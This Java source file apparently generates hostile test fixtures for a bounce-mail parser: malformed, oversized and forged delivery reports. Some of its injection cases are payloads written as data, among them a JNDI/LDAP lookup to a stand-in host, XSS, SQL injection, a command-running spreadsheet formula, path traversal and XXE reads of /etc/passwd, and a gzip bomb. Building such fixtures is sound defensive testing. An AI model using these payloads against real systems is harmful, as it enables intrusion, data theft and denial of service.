package org.tracepost.bounce.parse;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/**
 * More than 200 kinds of broken and malicious mail, each with a name, each a delivery report about a recipient that
 * there is, without the token that would prove it. Made by code: none of them ever was a real mail.
 */
public final class HostileMails {

    private static final int MB = 1024 * 1024;
    private static final List<String> WEIRD_CHARSETS = List.of(
            "utf-7",
            "utf-16",
            "utf-16le",
            "utf-32",
            "x-unknown",
            "x-user-defined",
            "iso-2022-jp",
            "iso-2022-cn-ext",
            "hz-gb-2312",
            "ebcdic-us",
            "cp437",
            "gb18030",
            "big5-hkscs",
            "us-ascii\0",
            "../../etc/passwd",
            "",
            "\"",
            "utf-8;utf-8",
            "koi8-r",
            "viscii");
    private static final List<String> BACKTRACKING = List.of(
            "a",
            " ",
            "\t",
            "(",
            "((a)",
            "<",
            "<a@",
            "a@a.",
            "=",
            "=?",
            "=?utf-8?B?",
            "=?utf-8?Q?=",
            ".",
            "5.1.1 ",
            "5.1.1-",
            "550-",
            "550 5.1.1 ",
            "-",
            "--b\n",
            ";",
            "; a=",
            "\\",
            "\"",
            "user unknown ",
            "mailbox full ",
            "exceeded ",
            "account is ",
            "&amp;",
            "<br ",
            "http://a",
            "\u00a0",
            "0");

    private final Map<String, byte[]> kinds = new LinkedHashMap<>();
    private final String address;
    private final String forged;

    private HostileMails(String address, String forged) {
        this.address = address;
        this.forged = forged;
    }

    /**
     * @param address of a recipient that there is
     * @param forged a token of the right form that is no envelope token of anybody's
     */
    public static Map<String, byte[]> about(String address, String forged) {
        HostileMails mails = new HostileMails(address, forged);
        mails.cut();
        mails.bytes();
        mails.headers();
        mails.nesting();
        mails.boundaries();
        mails.encodings();
        mails.charsets();
        mails.words();
        mails.many();
        mails.tokens();
        mails.injections();
        mails.backtracking();
        mails.parameters();
        mails.types();
        mails.contradictions();
        mails.large();
        mails.chance();
        return mails.kinds;
    }

    private void add(String name, byte[] mail) {
        if (kinds.put(name, mail) != null) {
            throw new IllegalStateException("twice: " + name);
        }
    }

    private void add(String name, String mail) {
        add(name, mail.getBytes(StandardCharsets.ISO_8859_1));
    }

    // ---- a report to be spoilt

    private String fields() {
        return "Reporting-MTA: dns; mx.hostile.test\n\nFinal-Recipient: rfc822; " + address
                + "\nAction: failed\nStatus: 5.1.1\n" + "Diagnostic-Code: smtp; 550 5.1.1 no such user\n";
    }

    private String header(String more) {
        return "From: MAILER-DAEMON@hostile.test\nTo: bounces@bounce.test\nSubject: Undelivered mail\nDate: Sun, 22 Nov 2026 10:00:00 +0000\n"
                + more + "MIME-Version: 1.0\n";
    }

    private String report(String header, String fields, String returned) {
        return header(header)
                + "Content-Type: multipart/report; report-type=delivery-status; boundary=\"b\"\n\n--b\nContent-Type: text/plain\n\n"
                + "I could not deliver your mail to <" + address
                + ">.\n\n--b\nContent-Type: message/delivery-status\n\n" + fields
                + "\n--b\nContent-Type: text/rfc822-headers\n\nSubject: invoice\nTo: " + address + "\n" + returned
                + "\n--b--\n";
    }

    private String report() {
        return report("", fields(), "");
    }

    private String single(String header, String body) {
        return header(header) + "\n" + body;
    }

    // ---- the kinds

    private void cut() {
        byte[] whole = report().getBytes(StandardCharsets.ISO_8859_1);
        for (int part = 0; part < 20; part++) {
            add("cut-after-" + part * 5 + "-per-cent", Arrays.copyOf(whole, whole.length * part / 20));
        }
        add("cut-in-boundary", report().substring(0, report().indexOf("--b\nContent-Type: message") + 2));
        add("cut-in-field-name", report().substring(0, report().indexOf("Diagnostic") + 4));
        add("cut-in-header-name", "Fro");
        add("cut-in-encoded-word", header("Subject: =?utf-8?B?w4Q") + "\nx");
    }

    private void bytes() {
        String good = report();
        add("nothing-but-nul", new byte[10_000]);
        add("nothing-but-newlines", "\n".repeat(10_000));
        add("nothing-but-carriage-returns", "\r".repeat(10_000));
        add("nothing-but-spaces", " ".repeat(10_000));
        add("nothing-but-ff", new String(new char[10_000]).replace('\0', '\u00ff'));
        add("nul-between-all", good.replace("", "\0"));
        add("nul-at-line-ends", good.replace("\n", "\0\n"));
        add("nul-in-boundary", good.replace("--b", "--\0b"));
        add("nul-in-address", good.replace("@", "\0@"));
        add("nul-in-status", good.replace("5.1.1", "5\0.1.1"));
        add("bare-carriage-returns", good.replace('\n', '\r'));
        add(
                "line-ends-mixed",
                good.replace("\nTo", "\r\nTo").replace("\nStatus", "\rStatus").replace("\n\n", "\r\n\n"));
        add("double-carriage-returns", good.replace("\n", "\r\r\n"));
        add("line-feeds-before-carriage-returns", good.replace("\n", "\n\r"));
        add("line-separator-characters", good.replace("\n", "\u0085"));
        add("vertical-tabs-and-form-feeds", good.replace(" ", "\u000b\f"));
        add("high-bit-set-everywhere", highBit(good));
        add("escape-sequences", good.replace("no such user", "\u001b[2J\u001b]0;owned\u0007no such user"));
        add("backspaces", good.replace("no such user", "no such user\b\b\b\b\bdelivered"));
        add("byte-order-mark-first", concat(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, good));
        add("all-of-it-utf-16", good.getBytes(StandardCharsets.UTF_16));
        add("overlong-utf-8", report("", fields().replace("no such user", "\u00c0\u00af\u00e0\u0080\u00af"), ""));
        add(
                "half-surrogates-in-utf-8",
                report("", fields().replace("no such user", "\u00ed\u00a0\u0080\u00ed\u00b0\u0080"), ""));
        add("gzip-instead-of-mail", gzip(good.getBytes(StandardCharsets.ISO_8859_1)));
        add("executable-instead-of-mail", concat(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, "\0".repeat(500)));
    }

    private static byte[] highBit(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] |= (byte) 0x80;
        }
        return bytes;
    }

    private static byte[] concat(byte[] first, String second) {
        byte[] rest = second.getBytes(StandardCharsets.ISO_8859_1);
        byte[] all = Arrays.copyOf(first, first.length + rest.length);
        System.arraycopy(rest, 0, all, first.length, rest.length);
        return all;
    }

    private void headers() {
        add("no-header-at-all", "\n" + report());
        add("header-only", header(""));
        add("body-without-header", fields());
        add("header-of-a-megabyte", report("X-Long: " + "x".repeat(MB) + "\n", fields(), ""));
        add("header-folded-100000-times", report("X-Folded: a" + "\n b".repeat(100_000) + "\n", fields(), ""));
        add("folded-with-nothing-100000-times", report("X-Folded: a" + "\n ".repeat(100_000) + "\n", fields(), ""));
        add("100000-headers", report("X-Many: 1\n".repeat(100_000), fields(), ""));
        add("header-without-colon", report("This is no header\n", fields(), ""));
        add("header-without-name", report(": nothing\n", fields(), ""));
        add("header-name-of-100000", report("x".repeat(100_000) + ": 1\n", fields(), ""));
        add("header-with-spaces-in-name", report("Content Type : text/plain\n", fields(), ""));
        add("header-name-8-bit", report("S\u00fcbject: x\n", fields(), ""));
        add("subject-twice-100-times", report("Subject: again\n".repeat(100), fields(), ""));
        add(
                "from-is-10000-angle-brackets",
                report("From: " + "<".repeat(10_000) + ">".repeat(10_000) + "\n", fields(), ""));
        add(
                "from-is-nested-comments",
                report("From: " + "(".repeat(10_000) + "x" + ")".repeat(10_000) + " a@b.test\n", fields(), ""));
        add("from-group-unended", report("From: undisclosed:" + "a@b.test,".repeat(5_000) + "\n", fields(), ""));
        add("date-of-year-999999", report("Date: Sun, 22 Nov 999999 99:99:99 +9999\n", fields(), ""));
        add("date-before-time-began", report("Date: Thu, 1 Jan 0000 00:00:00 -9999\n", fields(), ""));
        add("date-of-digits", report("Date: " + "9".repeat(10_000) + "\n", fields(), ""));
        add("mbox-line-in-between", header("") + "From x@y.test Sun Nov 22 10:00:00 2026\n" + report());
        add("first-line-folded", " folded\n" + report());
    }

    private void nesting() {
        StringBuilder deep = new StringBuilder(header(""));
        for (int i = 0; i < 10_000; i++) {
            deep.append("Content-Type: multipart/mixed; boundary=b")
                    .append(i)
                    .append("\n\n--b")
                    .append(i)
                    .append('\n');
        }
        add("10000-parts-nested", deep + "Content-Type: message/delivery-status\n\n" + fields());
        add("10000-mails-in-mails", header("") + "Content-Type: message/rfc822\n\n".repeat(10_000) + report());
        add(
                "nested-with-one-boundary",
                header("") + "Content-Type: multipart/mixed; boundary=b\n\n--b\n".repeat(1_000) + fields());
        add("report-in-report-in-report", report("", report("", report(), ""), ""));
        add(
                "multipart-in-encoded-multipart",
                header("") + "Content-Type: multipart/mixed; boundary=b\nContent-Transfer-Encoding: base64\n\n"
                        + Base64.getMimeEncoder().encodeToString(report().getBytes(StandardCharsets.ISO_8859_1)));
        add(
                "100000-parts",
                header("") + "Content-Type: multipart/report; report-type=delivery-status; boundary=b\n\n"
                        + "--b\n\nx\n".repeat(100_000));
        add(
                "100000-empty-parts",
                header("") + "Content-Type: multipart/report; boundary=b\n\n" + "--b\n".repeat(100_000));
        add(
                "10000-status-parts",
                header("") + "Content-Type: multipart/report; boundary=b\n\n"
                        + ("--b\nContent-Type: message/delivery-status\n\n" + fields()).repeat(10_000));
    }

    private void boundaries() {
        String good = report();
        add("boundary-missing", good.replace("; boundary=\"b\"", ""));
        add("boundary-empty", good.replace("boundary=\"b\"", "boundary=\"\""));
        add("boundary-of-100000", good.replace("boundary=\"b\"", "boundary=\"" + "b".repeat(100_000) + "\""));
        add("boundary-quote-unended", good.replace("boundary=\"b\"", "boundary=\"b"));
        add(
                "boundary-is-a-pattern",
                good.replace("boundary=\"b\"", "boundary=\"(a+)+$\"").replace("--b", "--(a+)+$"));
        add(
                "boundary-is-dashes",
                good.replace("boundary=\"b\"", "boundary=\"--\"").replace("--b", "----"));
        add("boundary-never-comes", good.replace("--b", "--c"));
        add("boundary-ends-first", good.replaceFirst("--b\n", "--b--\n--b\n"));
        add("boundary-with-spaces-after", good.replace("--b\n", "--b                    \n"));
        add("boundary-that-begins-another", good.replace("--b\n", "--bb\n"));
        add("boundary-given-twice", good.replace("boundary=\"b\"", "boundary=\"c\"; boundary=\"b\""));
        add("boundary-in-header-lines", good.replace("Subject:", "--b\nSubject:"));
        add("boundary-with-line-break", good.replace("boundary=\"b\"", "boundary=\"b\n x\""));
        add("preamble-of-a-megabyte", good.replaceFirst("\n\n--b", "\n\n" + "preamble\n".repeat(MB / 9) + "--b"));
        add("epilogue-of-a-megabyte", good + "epilogue\n".repeat(MB / 9));
    }

    private void encodings() {
        for (String encoding : List.of(
                "base64",
                "quoted-printable",
                "uuencode",
                "x-uuencode",
                "gzip",
                "binary",
                "8bit",
                "7bit",
                "BASE64 ",
                "base64base64",
                "")) {
            add(
                    "status-claims-encoding-" + encoding.replace(' ', '_'),
                    report("", "", "")
                            .replace(
                                    "Content-Type: message/delivery-status\n",
                                    "Content-Type: message/delivery-status\nContent-Transfer-Encoding: " + encoding
                                            + "\n")
                            .replace("\n--b\nContent-Type: text/rfc", fields() + "\n--b\nContent-Type: text/rfc"));
        }
        add(
                "base64-garbage",
                single(
                        "Content-Type: message/delivery-status\nContent-Transfer-Encoding: base64\n",
                        "!!!!====????".repeat(1_000)));
        add("base64-of-padding", single("Content-Transfer-Encoding: base64\n", "=".repeat(100_000)));
        add("base64-in-one-line-of-a-megabyte", single("Content-Transfer-Encoding: base64\n", "QUFB".repeat(MB / 4)));
        add("base64-odd-length", single("Content-Transfer-Encoding: base64\n", "QUFBQ"));
        add("base64-of-itself-five-times", single("Content-Transfer-Encoding: base64\n", fiveTimes(report())));
        add(
                "bomb-of-zeros-compressed",
                single(
                        "Content-Type: application/gzip\nContent-Transfer-Encoding: base64\n",
                        Base64.getMimeEncoder().encodeToString(gzip(new byte[20 * MB]))));
        add(
                "bomb-called-delivery-status",
                single(
                        "Content-Type: message/delivery-status; name=\"a.gz\"\nContent-Encoding: gzip\nContent-Transfer-Encoding: base64\n",
                        Base64.getMimeEncoder()
                                .encodeToString(gzip(fields().repeat(20_000).getBytes(StandardCharsets.ISO_8859_1)))));
        add(
                "quoted-printable-garbage",
                single(
                        "Content-Type: message/delivery-status\nContent-Transfer-Encoding: quoted-printable\n",
                        "=ZZ=1=\n=".repeat(5_000)));
        add("quoted-printable-equals", single("Content-Transfer-Encoding: quoted-printable\n", "=".repeat(200_000)));
        add(
                "quoted-printable-soft-breaks",
                single("Content-Transfer-Encoding: quoted-printable\n", "=\n".repeat(100_000)));
        add(
                "quoted-printable-makes-headers",
                single(
                        "Content-Type: message/delivery-status\nContent-Transfer-Encoding: quoted-printable\n",
                        "Reporting-MTA: dns; a=0A=0AFinal-Recipient: rfc822; " + address
                                + "=0AAction: failed=0AStatus: 5.1.1=0D=0A"));
    }

    private static String fiveTimes(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.ISO_8859_1);
        for (int i = 0; i < 5; i++) {
            bytes = ("Content-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n"
                            + Base64.getMimeEncoder().encodeToString(bytes))
                    .getBytes(StandardCharsets.ISO_8859_1);
        }
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    private static byte[] gzip(byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(out)) {
            zip.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private void charsets() {
        for (int i = 0; i < WEIRD_CHARSETS.size(); i++) {
            String charset = WEIRD_CHARSETS.get(i);
            add(
                    "charset-" + i + "-" + charset.replaceAll("[^a-z0-9-]", "_"),
                    report().replace(
                                    "Content-Type: text/plain\n",
                                    "Content-Type: text/plain; charset=\"" + charset + "\"\n")
                            .replace("I could", "\u00c4\u00d6\u00dc +AGE-\u001b$B I could"));
        }
        add(
                "utf-16-status",
                concat(
                        (header("") + "Content-Type: message/delivery-status; charset=utf-16\n\n")
                                .getBytes(StandardCharsets.ISO_8859_1),
                        new String(fields().getBytes(StandardCharsets.UTF_16), StandardCharsets.ISO_8859_1)));
        add(
                "ebcdic-body",
                concat(
                        header("").getBytes(StandardCharsets.ISO_8859_1),
                        "\n" + new String(fields().getBytes(Charset.forName("IBM037")), StandardCharsets.ISO_8859_1)));
    }

    private void words() {
        add("encoded-words-100000", report("Subject: " + "=?utf-8?Q?a?= ".repeat(100_000) + "\n", fields(), ""));
        add("encoded-word-of-a-megabyte", report("Subject: =?utf-8?B?" + "QUFB".repeat(MB / 4) + "?=\n", fields(), ""));
        add("encoded-word-in-encoded-word", report("Subject: =?utf-8?Q?=3D=3Futf-8=3FQ=3Fa=3F=3D?=\n", fields(), ""));
        add("encoded-word-unknown-charset", report("Subject: =?x-evil?B?QUFB?=\n", fields(), ""));
        add("encoded-word-unknown-encoding", report("Subject: =?utf-8?X?QUFB?=\n", fields(), ""));
        add("encoded-word-bad-base64", report("Subject: =?utf-8?B?%%%%?=\n", fields(), ""));
        add(
                "encoded-word-makes-a-header",
                report("Subject: =?utf-8?Q?a=0D=0ABcc:_victim@example.test?=\n", fields(), ""));
        add("encoded-word-makes-nul", report("Subject: =?utf-8?Q?=00=00?=\n", fields(), ""));
        add("encoded-word-utf-7", report("Subject: =?utf-7?Q?+ADw-script+AD4-?=\n", fields(), ""));
        add("encoded-word-half-surrogate", report("Subject: =?utf-16?B?2AA=?=\n", fields(), ""));
        add("encoded-word-in-address", report("From: =?utf-8?Q?a=40b=2Etest?= <=?utf-8?Q?x?=@y.test>\n", fields(), ""));
        add("right-to-left-override", report("Subject: =?utf-8?Q?invoice=E2=80=AEfdp.exe?=\n", fields(), ""));
        add("zero-width-and-combining", report("Subject: =?utf-8?Q?" + "=CC=81".repeat(5_000) + "?=\n", fields(), ""));
    }

    private void many() {
        String one = "\nFinal-Recipient: rfc822; " + address + "\nAction: failed\nStatus: 5.1.1\n";
        add("100000-recipients", report("", "Reporting-MTA: dns; a.test\n" + one.repeat(100_000), ""));
        add(
                "100000-different-recipients",
                report(
                        "",
                        "Reporting-MTA: dns; a.test\n"
                                + numbered(
                                        "\nFinal-Recipient: rfc822; a%d@b.test\nAction: failed\nStatus: 5.1.1\n",
                                        100_000),
                        ""));
        add("100000-addresses-in-to", report("To: " + numbered("a%d@b.test, ", 100_000) + "\n", fields(), ""));
        add("100000-delivered-to", report(numbered("Delivered-To: a%d@b.test\n", 100_000), fields(), ""));
        add("100000-references", report("References: " + numbered("<%d@b.test> ", 100_000) + "\n", fields(), ""));
        add(
                "100000-received",
                report(
                        "Received: from a.test by b.test for <c@d.test>; Sun, 22 Nov 2026 10:00:00 +0000\n"
                                .repeat(100_000),
                        fields(),
                        ""));
        add("100000-lines-of-one-field", report("", fields() + "X: 1\n".repeat(100_000), ""));
        add(
                "diagnostic-of-a-megabyte",
                report("", fields().replace("no such user", "no such user ".repeat(80_000)), ""));
        add(
                "diagnostic-in-100000-lines",
                report("", fields().replace("no such user", "no such user\n 550-".repeat(100_000)), ""));
        add("address-of-100000", report("", fields().replace(address, "a".repeat(100_000) + "@b.test"), ""));
        add(
                "words-only-100000-addresses",
                single(
                        "",
                        "Your message could not be delivered to:\n"
                                + numbered("<a%d@b.test>: 550 user unknown\n", 100_000)));
    }

    private static String numbered(String pattern, int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.append(pattern.replace("%d", String.valueOf(i)));
        }
        return text.toString();
    }

    private void tokens() {
        String verp = "bounces+" + forged + "@bounce.test";
        add("forged-delivered-to", report("Delivered-To: " + verp + "\n", fields(), ""));
        add("forged-envelope-id", report("", "Original-Envelope-Id: " + forged + "\n" + fields(), ""));
        add("forged-message-id-returned", report("", fields(), "Message-ID: <" + forged + "@bounce.test>\n"));
        add("forged-return-path-returned", report("", fields(), "Return-Path: <" + verp + ">\n"));
        add(
                "forged-in-reply-to",
                single("In-Reply-To: <" + forged + "@bounce.test>\nAuto-Submitted: auto-replied\n", "I am away."));
        add(
                "forged-own-header",
                report("X-Tracepost-Token: " + forged + "\n", fields(), "X-Tracepost-Token: " + forged + "\n"));
        add(
                "forged-50-ways",
                report(
                        numbered("Delivered-To: bounces+" + forged.substring(2) + "%d@bounce.test\n", 50),
                        fields(),
                        ""));
        add(
                "forged-thousands",
                report("To: " + ("bounces+" + forged + "@bounce.test, ").repeat(5_000) + "\n", fields(), ""));
        add(
                "forged-token-too-short",
                report("Delivered-To: bounces+" + forged.substring(1) + "@bounce.test\n", fields(), ""));
        add("forged-token-too-long", report("Delivered-To: bounces+" + forged + "a@bounce.test\n", fields(), ""));
        add(
                "forged-token-with-wildcards",
                report(
                        "Delivered-To: bounces+%%%%%%%%%%%%%%%%%%%%%%%%%%@bounce.test\n",
                        "Original-Envelope-Id: " + "_".repeat(26) + "\n" + fields(), ""));
        add(
                "forged-token-is-sql",
                report(
                        "",
                        "Original-Envelope-Id: ' or '1'='1\n" + fields(),
                        "Message-ID: <x' or 1=1 --@bounce.test>\n"));
        add(
                "forged-complaint",
                header("")
                        + "Content-Type: multipart/report; report-type=feedback-report; boundary=b\n\n--b\nContent-Type: message/feedback-report\n\nFeedback-Type: abuse\n"
                        + "User-Agent: x/1\nVersion: 1\nOriginal-Mail-From: <" + verp + ">\nOriginal-Rcpt-To: <"
                        + address + ">\n\n--b\nContent-Type: message/rfc822\n\nMessage-ID: <" + forged
                        + "@bounce.test>\nTo: " + address + "\n\nx\n--b--\n");
        add(
                "forged-read-receipt",
                header("")
                        + "Content-Type: multipart/report; report-type=disposition-notification; boundary=b\n\n--b\nContent-Type: message/disposition-notification\n\n"
                        + "Final-Recipient: rfc822; " + address + "\nOriginal-Message-ID: <" + forged
                        + "@bounce.test>\nDisposition: manual-action/MDN-sent-manually; displayed\n\n--b--\n");
        add(
                "forged-address-change",
                single(
                        "Delivered-To: " + verp + "\nSubject: My new address\nAuto-Submitted: auto-replied\n",
                        "I have a new e-mail address: thief@hostile.test. Please update " + address + "."));
        add(
                "forged-challenge",
                single(
                        "Delivered-To: " + verp
                                + "\nSubject: Please confirm your message\nAuto-Submitted: auto-replied\n",
                        "To release your mail to " + address + " go to http://hostile.test/"));
        add("token-of-another-domain", report("Delivered-To: bounces+" + forged + "@evil.test\n", fields(), ""));
    }

    private void injections() {
        Map<String, String> pieces = new LinkedHashMap<>();
        pieces.put("script", "<script>alert(1)</script>");
        pieces.put("image-onerror", "\"><img src=x onerror=alert(1)>");
        pieces.put("expression", "#{request.contextPath}${7*7}{{contact.name}}");
        pieces.put("sql", "'; drop table recipient; --");
        pieces.put("like-wildcards", "%_!%");
        pieces.put("format", "%s%n%x {0} {1,number}");
        pieces.put("jndi", "${jndi:ldap://hostile.test/a}");
        pieces.put("spreadsheet-formula", "=cmd|'/c calc'!A1");
        pieces.put("path", "../../../../etc/passwd\0.eml");
        pieces.put("header-lines", "x\r\nBcc: victim@example.test\r\n\r\nbody");
        pieces.put("line-separators", "x\u2028y\u2029z\u0085");
        pieces.put("entities", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;");
        pieces.forEach((name, piece) -> {
            String latin = new String(piece.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
            add(
                    "inject-" + name + "-in-subject",
                    report("Subject: " + latin.replace("\r\n", "\r\n ") + "\n", fields(), ""));
            add(
                    "inject-" + name + "-in-fields",
                    report(
                            "",
                            fields().replace("mx.hostile.test", latin)
                                    .replace("no such user", latin)
                                    .replace("rfc822; ", "rfc822; " + latin),
                            ""));
        });
        add(
                "inject-html-report",
                header("Auto-Submitted: auto-replied\n")
                        + "Content-Type: text/html\n\n<html><body onload=alert(1)><iframe src=//hostile.test></iframe><style>*{display:none}</style>"
                        + "<meta http-equiv=refresh content='0;url=//hostile.test'>Your message to " + address
                        + " failed: user unknown</body></html>");
        add("inject-html-unended", header("") + "Content-Type: text/html\n\n" + "<div ".repeat(50_000));
        add(
                "inject-html-entities",
                header("") + "Content-Type: text/html\n\n" + "&#x41;&#99999999;&nope;".repeat(10_000));
    }

    private void backtracking() {
        for (int i = 0; i < BACKTRACKING.size(); i++) {
            String piece = BACKTRACKING.get(i);
            String text = piece.repeat(200_000 / piece.length());
            add(
                    "backtrack-" + i + "-fields-" + piece.replaceAll("[^\\w@.-]", "_"),
                    report(
                            "Subject: " + text.replace("\n", " ") + "\nFrom: " + text.replace("\n", " ") + "\n",
                            fields() + "X-More: " + text.replace("\n", "\n ") + "\n",
                            "To: " + text.replace("\n", "\n ") + "\n"));
            add(
                    "backtrack-" + i + "-words-" + piece.replaceAll("[^\\w@.-]", "_"),
                    single(
                            "Subject: failure notice\n",
                            "Hi. This is the program. Failed to deliver to <" + address + ">:\n" + text));
        }
    }

    private void parameters() {
        String good = report();
        add("rfc2231-pieces-1000", good.replace("report-type=delivery-status", pieces(1_000)));
        add("rfc2231-pieces-missing", good.replace("boundary=\"b\"", "boundary*1=\"b\"; boundary*7=\"c\""));
        add("rfc2231-charset-unknown", good.replace("boundary=\"b\"", "boundary*=x-evil'en'%62"));
        add("rfc2231-percent-garbage", good.replace("boundary=\"b\"", "boundary*=utf-8''%zz%6"));
        add("rfc2231-negative-piece", good.replace("boundary=\"b\"", "boundary*-1=b; boundary*99999999999=b"));
        add("parameter-without-value", good.replace("report-type=delivery-status", "report-type="));
        add("parameter-without-name", good.replace("report-type=delivery-status", "=delivery-status"));
        add(
                "parameters-10000",
                good.replace(
                        "report-type=delivery-status", numbered("a%d=1; ", 10_000) + "report-type=delivery-status"));
        add("parameter-with-comment", good.replace("report-type=", "report-type (((a) b) c) ="));
        add("parameter-backslashes", good.replace("boundary=\"b\"", "boundary=\"" + "\\".repeat(5_000) + "b\""));
        add("semicolons-10000", good.replace("; boundary", ";".repeat(10_000) + " boundary"));
    }

    private static String pieces(int count) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < count; i++) {
            text.append("report-type*").append(i).append("*=a; ");
        }
        return text.append("x=y").toString();
    }

    private void types() {
        for (String type : List.of(
                "message/partial; number=1; total=99999999; id=x",
                "message/external-body; access-type=URL; URL=\"file:///etc/passwd\"",
                "message/rfc822",
                "message/http",
                "multipart/alternative",
                "multipart/digest; boundary=b",
                "multipart/parallel",
                "application/octet-stream",
                "text/html",
                "text/enriched",
                "application/ms-tnef",
                "application/pkcs7-mime",
                "text",
                "/",
                "multipart/",
                "message/delivery-status/delivery-status",
                "\"message/delivery-status\"")) {
            add("type-" + type.replaceAll("[^a-z0-9]+", "-"), header("") + "Content-Type: " + type + "\n\n" + fields());
        }
        add(
                "type-twice",
                header("") + "Content-Type: text/plain\nContent-Type: message/delivery-status\n\n" + fields());
        add(
                "type-loop",
                header("")
                        + "Content-Type: multipart/report; boundary=b\n\n--b\nContent-Type: multipart/report; boundary=b\n\n--b\nContent-Type: multipart/report; boundary=b\n\n--b\n"
                        + "Content-Type: message/delivery-status\n\n" + fields() + "--b--\n");
        add(
                "type-refers-to-itself",
                header("Content-ID: <a@b.test>\n")
                        + "Content-Type: multipart/related; boundary=b; start=\"<a@b.test>\"\n\n--b\nContent-ID: <a@b.test>\n\n<img src=cid:a@b.test>\n--b--\n");
    }

    private void contradictions() {
        add(
                "delivered-and-failed",
                report(
                        "",
                        fields() + "\nFinal-Recipient: rfc822; " + address + "\nAction: delivered\nStatus: 2.0.0\n",
                        ""));
        add("action-twice", report("", fields().replace("Action: failed", "Action: failed\nAction: delivered"), ""));
        add("status-2-action-failed", report("", fields().replace("Status: 5.1.1", "Status: 2.1.1"), ""));
        add("status-9.9.9", report("", fields().replace("Status: 5.1.1", "Status: 9.9.9"), ""));
        add(
                "status-of-huge-numbers",
                report("", fields().replace("Status: 5.1.1", "Status: 5.99999999999999999999.1"), ""));
        add("status-negative", report("", fields().replace("Status: 5.1.1", "Status: -5.-1.-1"), ""));
        add("status-of-digits", report("", fields().replace("Status: 5.1.1", "Status: " + "5.".repeat(10_000)), ""));
        add("reply-code-huge", report("", fields().replace("550 5.1.1", "99999999999999 5.1.1"), ""));
        add("action-unknown", report("", fields().replace("Action: failed", "Action: exploded"), ""));
        add("action-empty", report("", fields().replace("Action: failed", "Action:"), ""));
        add("recipient-without-type", report("", fields().replace("rfc822; ", ""), ""));
        add("recipient-of-unknown-type", report("", fields().replace("rfc822; ", "x-evil; "), ""));
        add("recipient-is-bounce-address", report("", fields().replace(address, "bounces@bounce.test"), ""));
        add(
                "retry-until-year-292278994",
                report(
                        "",
                        fields() + "Will-Retry-Until: Sun, 17 Aug 292278994 07:12:55 +0000\nLast-Attempt-Date: x\n",
                        ""));
        add(
                "read-receipt-says-everything",
                header("") + "Content-Type: message/disposition-notification\n\nFinal-Recipient: rfc822; " + address
                        + "\nDisposition: manual-action/automatic-action; displayed/deleted/denied/failed\n");
        add(
                "complaint-and-report-at-once",
                header("")
                        + "Content-Type: multipart/report; report-type=feedback-report; boundary=b\n\n--b\nContent-Type: message/delivery-status\n\n"
                        + fields()
                        + "\n--b\nContent-Type: message/feedback-report\n\nFeedback-Type: not-spam\nFeedback-Type: abuse\nOriginal-Rcpt-To: <"
                        + address + ">\n\n--b--\n");
    }

    private void large() {
        add("returned-mail-of-12-megabytes", report("", fields(), "\n" + "0123456789abcdef\n".repeat(12 * MB / 17)));
        add("one-line-of-5-megabytes", single("", "a".repeat(5 * MB)));
        add(
                "words-of-2-megabytes",
                single(
                        "Subject: Undeliverable\n",
                        "The following address failed: " + address + "\n"
                                + "mailbox unavailable, user unknown, quota exceeded. ".repeat(40_000)));
    }

    /** What nobody thought of; the same in every run. */
    private void chance() {
        byte[] good = report().getBytes(StandardCharsets.ISO_8859_1);
        for (int seed = 0; seed < 20; seed++) {
            Random random = new Random(seed);
            byte[] bad = good.clone();
            for (int i = 0; i < 10 + seed * 10; i++) {
                bad[random.nextInt(bad.length)] = (byte) random.nextInt(256);
            }
            add("bytes-changed-by-chance-" + seed, bad);
        }
    }
}
